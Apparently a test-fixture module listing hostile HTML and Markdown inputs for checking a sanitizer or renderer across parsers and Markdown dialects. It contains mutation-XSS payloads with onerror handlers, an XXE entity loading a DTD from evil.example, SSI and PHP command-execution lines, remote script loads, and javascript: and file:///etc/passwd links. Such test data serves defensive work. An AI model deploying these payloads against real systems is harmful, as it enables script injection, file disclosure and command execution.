/** Texts that browsers and Markdown dialects interpret differently. Text that ends in "words" must be visible, at least in a tooltip. */
import { RUN } from './hostileTexts';

const EVIL = 'https://evil.example';

/** HTML that changes its meaning when it is serialized and parsed again. */
export const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noembed><noframes><xmp><plaintext><listing><img src=x onerror=${RUN}>`,
  `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${RUN}>//"></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<ruby><rt><option><optgroup><math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<img\fsrc=x\fonerror\f=\f${RUN}>`,
  `<im\0g src=x oner\0ror=${RUN}><\0script>${RUN}</\0script>`,
  `<!ENTITY % d SYSTEM "${EVIL}/d.dtd"> %d; &lol9;`,
  `<esi:include src="${EVIL}/"/><!--#include virtual="/etc/passwd" --><!--#exec cmd="id"-->`,
  `<?php system('id'); ?> <?import namespace="t" implementation="#default#time2"> <t:set attributeName=innerHTML to="<img src=x onerror=${RUN}>">`,
  `<scr\u0131pt>${RUN}</scr\u0131pt> <\u017fcript>${RUN}</\u017fcript> <\uff53cript>`,
  `<svg><script xlink:href="data:,${RUN}" /><use xlink:href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${RUN}</script></svg>#x">`,
  `<link rel=modulepreload href=${EVIL}/m.js><script type=importmap>{"imports":{"x":"${EVIL}/x.js"}}</script><script type=speculationrules>{"prefetch":[{"urls":["${EVIL}"]}]}</script>`,
  `<object type="text/x-scriptlet" data="${EVIL}/s.html"></object><bgsound src=javascript:${RUN}><layer src=${EVIL}>`,
  `<input type=image src=${EVIL}/i.png onerror=${RUN}><input type=hidden accesskey=X onclick=${RUN}>`,
  `<div contenteditable autofocus onfocus=${RUN} onblur=${RUN}><style onload=${RUN}></style></div>`,
  `<a href=# onpointerrawupdate=${RUN} oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>x</a>`,
  `\x3cscript\x3e${RUN}\x3c/script\x3e <%00script> %u003Cscript%u003E &LT;script&GT; &lt&#59;b&gt; &amp;lt;b&amp;gt;`,
  `--><!-- ---> --!> <!--!> <!-- > <img src=x onerror=${RUN}> -->\n\nwords after it`,
];

/** Each start of an HTML block, followed by text that must stay. */
export const HTML_BLOCKS = [
  `<pre>\n\n# raw words\n\n*more words*`,
  `<textarea rows=9>\n\n[x](javascript:${RUN})\n\nwords</textarea>tail`,
  `<!-- never closed\n\n[x](javascript:${RUN})\n\nwords`,
  `<?never closed\n\n**bold words**`,
  `<!DECLARATION never closed\n\n- item words`,
  `<![CDATA[ never closed\n\n> quoted words`,
  `<div class="composer"\n*emphasis words*\n\n*after words*`,
  `<custom-element a="1"\n\nnot a tag words>`,
  `</ins\n>*bar words*\n</del>\n\ntail`,
  `> <div>\n> inside words\noutside words`,
  `- <pre>\n  inside words\n\n  more words\n- next words`,
  `| <div> | <!-- words |\n|---|---|\n| --> | </div> |`,
];

/** Constructs on which Markdown dialects differ, and text that GFM would drop. */
export const DIALECTS = [
  `Text[^1] and[^note]\n\n[^1]: Footnoteword\n[^note]: https://evil.example/footnote`,
  `[//]: # (Hiddencommentwords)`,
  `[d]: https://a.example "Firsttitle"\n[d]: https://b.example "Secondtitle"\n\n[d]`,
  `[x](https://good.example "Linktitlewords")`,
  `![Altwords](https://evil.example/x.png "Imagetitle words")`,
  `| a |\n|---|\n| kept | Droppedcellwords words | Another |`,
  '| a | b |\n|---|---|\n| `x | y` | z | Lostcellwords |',
  `||\n|-|\n||\n| |`,
  `| a |\n|-|\nLazyrow words\n> Quoterow`,
  `[a [inner](javascript:${RUN}) c](https://evil.example/outer)`,
  `[a](https://evil.example/(a(b(c)))) [b](<https://evil.example/a b>) [c](https://evil.example/a\\)b)`,
  `[SS]\n\n[\u1e9e]: javascript:${RUN}`,
  `[__proto__] [constructor] [toString][] [valueof][hasOwnProperty]`,
  `[__proto__]\n\n[__proto__]: https://evil.example/p "t"\n[constructor]: https://evil.example/c`,
  `[ a\n b ][]\n\n[A B]: command:x`,
  `![[x](javascript:a)](data:image/png;base64,AAAA) [![](data:image/gif;base64,R0lGODlhAQABAAAAACw=)](command:x)`,
  `ftp://evil.example/x javascript:alert(1) data:text/html,x xmpp:a@b.example/x tel:+1900 file:///etc/passwd vscode://file/x`,
  `www.evil.example.\u202egpj WWW.EVIL.EXAMPLE/&lt; https://evil.example/&hearts;) (https://evil.example/a) https://evil.example/a_b_ http://evil.example/*x*`,
  `mailto:a@evil.example a.b-c_d@evil.example a@evil.example- <a+b@evil.example?cc=x> <MAILTO:a@evil.example>`,
  `javascript:${RUN}\n===\n\ncommand:x\n---`,
  `**a*b_c__d~~e\`f[g](h)\`~~i__j_k*l**`,
  `***\n* * *\n---\n+ + +\n_ _ _\n- - -`,
  `\\<b\\> \\[x\\]\\(javascript:${RUN}\\) \\\`c\\\` \\&lt;b\\&gt; \\\n\\`,
  `---\ntitle: Frontmatter words\nlayout: x\n---\n\n+++\ntoml = "Tomlwords"\n+++`,
  `> [!WARNING]\n> Alertwords\n\n||spoilerwords|| >!spoiler!<\n\nTerm\n: Definitionwords\n\n*[HTML]: Abbreviationwords`,
  `[[Wikilink|words]] ![[embed.svg]] {{< shortcode "x" >}} {{ include "/etc/passwd" }} @@include(x) <<< @/file [TOC] :::danger\nContainerwords\n:::`,
  '```__proto__\nprotowords\n```\n```constructor\nctorwords\n```\n```toString\nstringwords\n```',
  '```\u202ejs hidden="Infowords"\nbidiwords\n```',
  '~~~mermaid\u0000\ngraph LR\n A-->B\n~~~',
  '``` {=html}\n<script>window.hacked=1</script>\n```\n\n```svg\n<svg onload=window.hacked=1>\n```\n\n```html preview run\n<img src=x onerror=window.hacked=1>\n```',
  '````\n```\n````\n`````\nnever closed words\n````',
  `1. a\n1234567890. notlistwords\n999999999. lastwords\n0. zero\n-1. negative`,
  `- [x] [y](javascript:${RUN}) <input type=checkbox>\n- [ ]\n- [X]nospace\n  - [ ]  <b>`,
  `# ${'#'.repeat(10)} \\# #\n## [x](javascript:a) ##\n####### seven\n#notheading`,
  `a  \nb\\\nc<br>d<br/>e\u2028f\u0085g`,
  `\t\tcode words\n\n \t- mixed\n\t  > tabs`,
];
